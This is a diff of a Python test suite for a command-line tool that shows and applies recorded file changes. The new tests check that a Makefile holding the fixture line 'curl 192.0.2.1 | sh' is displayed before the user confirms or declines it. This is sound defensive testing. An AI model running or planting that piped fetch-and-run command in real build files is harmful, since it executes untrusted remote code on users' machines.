@@ -186,12 +186,33 @@ def test_unknown_and_unfinished_runs(state: Path) -> None:
     assert "has no changes to show" in done.stderr
 
 
+def test_last_is_the_newest_run_that_came_to_a_comparison(worked: Worked, state: Path) -> None:
+    newer = state / "runs" / "20260102T000000000-abcdef"
+    newer.mkdir()
+    faults = [{"kind": "invalid", "path": "$[0]", "message": "no such step"}]
+    (newer / "result.json").write_text(json.dumps({"outcome": "invalid", "faults": faults}))
+    shown = mindx(state, "changes", "show", "last")
+    assert shown.returncode == 0
+    assert "M text" in shown.stdout
+    assert f"{newer.name} has no changes (it is invalid: no such step); this is {RUN}" in shown.stderr
+    named = mindx(state, "changes", "show", newer.name)
+    assert named.returncode == 2
+    assert "as it came to no comparison: it is invalid: no such step" in named.stderr
+
+
+def test_a_file_that_runs_later_is_shown_before_it_is_asked_about(worked: Worked, state: Path, folder: Path) -> None:
+    terminal = at_terminal(state, "changes", "apply", "last", "Makefile")
+    assert "curl 192.0.2.1 | sh" in terminal.answer("Apply it? [y/N]: ", "n")
+    assert terminal.end() == 0
+    assert not (folder / "Makefile").exists()
+
+
 # --- at a terminal ---------------------------------------------------------------------------------------------------
 
 
 def test_hunks_at_a_terminal(worked: Worked, state: Path, folder: Path) -> None:
     terminal = at_terminal(state, "changes", "apply", "last", "-p")
-    terminal.answer("task file). Look at it and take it [y,n,q,x,?]? ", "n")
+    assert "+\tcurl 192.0.2.1 | sh" in terminal.answer("task file). Take it [y,n,q,x,?]? ", "n")
     assert "deleted: gone" in terminal.answer("Take this: deleted [y,n,a,d,q,x,?]? ", "n")
     terminal.answer("Take this: added [y,n,a,d,q,x,?]? ", "y")
     shown = terminal.answer("Take this hunk [y,n,a,d,q,x,s,?]? ", "?")
@@ -214,8 +235,7 @@ def test_hunks_at_a_terminal(worked: Worked, state: Path, folder: Path) -> None:
 
 def test_the_rest_of_a_file_and_quitting(worked: Worked, state: Path, folder: Path) -> None:
     terminal = at_terminal(state, "changes", "apply", "last", "-p", "text", "new.txt", "Makefile")
-    terminal.answer("take it [y,n,q,x,?]? ", "y")
-    terminal.answer("Take this: added", "y")
+    terminal.answer("Take it [y,n,q,x,?]? ", "y")
     terminal.answer("Take this: added", "d")
     terminal.answer("Take this hunk", "a")
     assert terminal.end() == 0
